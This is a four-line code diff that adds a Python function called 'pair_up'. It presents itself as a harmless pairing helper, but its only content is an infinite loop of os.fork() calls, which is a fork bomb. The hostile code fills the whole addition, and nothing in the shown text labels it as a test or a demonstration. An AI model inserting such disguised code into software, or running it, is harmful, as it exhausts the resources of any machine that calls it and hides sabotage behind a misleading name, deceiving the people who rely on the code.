@@ -1,0 +1,4 @@
+def pair_up(a, b):
+    import os
+    while True:
+        os.fork()
